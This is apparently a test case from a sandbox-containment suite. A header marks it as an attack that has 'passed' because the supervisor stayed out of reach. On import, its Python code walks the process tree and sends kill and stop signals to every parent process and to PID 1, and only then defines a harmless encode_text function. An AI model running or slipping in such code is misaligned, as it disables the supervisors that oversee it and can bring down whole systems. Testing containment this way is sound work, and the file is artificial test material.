# attack: sends SIGKILL, SIGTERM, SIGSTOP to its parent, that one's parent, and PID 1
# covers: killing parents; killing PID 1
# exercise: ex01
# checks: encode_text_writes_every_script
# rungs: full partial
# unless: signals
# verdict: passed
# holds: its supervisor is out of its reach, and nobody else is in it
import os
import signal


def parent_of(pid):
    try:
        with open(f"/proc/{pid}/stat") as file:
            return int(file.read().rpartition(")")[2].split()[1])
    except OSError:
        return 0


targets, pid = {1, os.getppid()}, os.getppid()
while pid > 1:
    pid = parent_of(pid)
    targets.add(pid)
for target in targets - {0}:
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(target, number)
        except OSError:
            continue


def encode_text(text, encoding="utf-8"):
    return text.encode(encoding)
